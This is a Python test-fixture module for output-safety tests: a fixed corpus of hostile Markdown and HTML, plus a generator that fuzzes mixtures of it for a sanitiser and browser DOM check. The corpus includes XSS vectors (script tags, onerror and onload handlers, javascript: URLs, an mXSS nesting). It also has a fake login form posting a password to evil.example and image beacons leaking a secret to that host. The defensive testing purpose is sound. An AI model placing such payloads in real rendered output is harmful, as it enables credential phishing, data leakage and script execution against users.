"""Hostile Markdown for the output-safety tests: a fixed corpus of known tricks and a generator that mixes them.

Every payload, if it reached the page as markup, would add a form/input/button/frame/object/script/style/link, an
event handler, a ``javascript:`` URL, or a request to a remote host (``evil.example``). Shared by the unit property
test (the HTML we write) and the Chromium test (the DOM the browser builds from it).
"""

from __future__ import annotations

from hypothesis import strategies as st


REMOTE = "http://evil.example"
CORPUS = [
    # the backslash-before-backtick trick: the old regex took this for code, Markdown shows a plain backtick
    "\\`<form action=" + REMOTE + "/steal><input name=pw type=password><button>Log in</button></form>`",
    "``nested ` <form action=" + REMOTE + "><input name=x></form> ``` tricky",
    "`a` \\`b <iframe src=" + REMOTE + "></iframe> ` c `",
    "<script>window.__pwned='script'</script>",
    "<img src=" + REMOTE + "/pixel.png?secret=42 onerror=\"window.__pwned='img'\">",
    "![leak](" + REMOTE + "/leak.png?secret=42)",
    "![x](javascript:window.__pwned='md-image')",
    "![ref image][pic]\n\n[pic]: " + REMOTE + "/ref.png?secret=42",
    "[click me][evil]\n\n[evil]: javascript:window.__pwned='ref-link'",
    "[docs](" + REMOTE + '/phish "Your bank")',
    "<" + REMOTE + "/autolink?secret=42>",
    "<javascript:window.__pwned='autolink'>",
    "&lt;form action=" + REMOTE + "&gt;&lt;input name=pw&gt;&lt;/form&gt; and &#60;script&#62;x&#60;/script&#62;",
    "<svg onload=\"window.__pwned='svg'\"><image href=" + REMOTE + "/svg.png /></svg>",
    "<object data=" + REMOTE + "/x.swf></object><embed src=" + REMOTE + "/x.swf>",
    "<style>@import url(" + REMOTE + "/x.css); body{background:url(" + REMOTE + "/bg.png)}</style>",
    "<link rel=stylesheet href=" + REMOTE + "/x.css><meta http-equiv=refresh content='0;url=" + REMOTE + "'>",
    "<details open ontoggle=\"window.__pwned='ontoggle'\"><summary>x</summary></details>",
    "<math><mtext><table><mglyph><style><img src=x onerror=\"window.__pwned='mxss'\">",
    "```html\n<script>window.__pwned='fenced'</script>\n\n![after blank line](" + REMOTE + "/fence.png)\n```",
    '```mermaid\ngraph TD; A["<img src=' + REMOTE + '/mermaid.png>"] --> B\n```',
    "$$<form action=" + REMOTE + "><input name=pw></form>$$ and $$\\href{javascript:alert(1)}{x}$$",
    "| a | <input name=cell> |\n|---|---|\n| ![t](" + REMOTE + "/table.png) | <button>b</button> |",
    "> quote <textarea name=t></textarea>\n> ![q](" + REMOTE + "/quote.png)",
    "- item <select><option>x</select>\n  - nested [x](vbscript:msgbox(1))",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [b](file:///etc/passwd)",
    '<a href="' + REMOTE + '" style="position:fixed;inset:0">full-page overlay</a>',
    "**bold <b onmouseover=\"window.__pwned='hover'\">x</b>** _<u>u</u>_ ~~<s>s</s>~~",
    "<base href=" + REMOTE + "/><form><input formaction=" + REMOTE + "></form>",
]
_PIECES = [
    "`", "``", "\\", "\\`", "<", ">", "&", "&lt;", "&#60;", "&#x3c;", "[", "]", "(", ")", "!", "*", "_", "\n",
    "\n\n", "    ", "> ", "- ", "1. ", "|", "$$", "```", "~~~", ":", "\"", "'", "=", " ",
    "form", "input", "button", "iframe", "script", "img", "style", "link", "a href=", "src=", "onerror=",
    "javascript:", REMOTE, "window.__pwned=1", "[x]: ", "![i](", "](", "text",
]  # fmt: skip

hostile_markdown = st.one_of(
    st.sampled_from(CORPUS),
    st.lists(st.one_of(st.sampled_from(_PIECES), st.sampled_from(CORPUS)), max_size=40).map("".join),
)


def fuzz_documents(count: int, seed: int = 16) -> list[str]:
    """``count`` documents mixing the pieces and the corpus at random (fixed seed: the browser test is repeatable)."""
    import random

    rng = random.Random(seed)
    pool = _PIECES + CORPUS
    return ["".join(rng.choice(pool) for _ in range(rng.randint(3, 40))) for _ in range(count)]
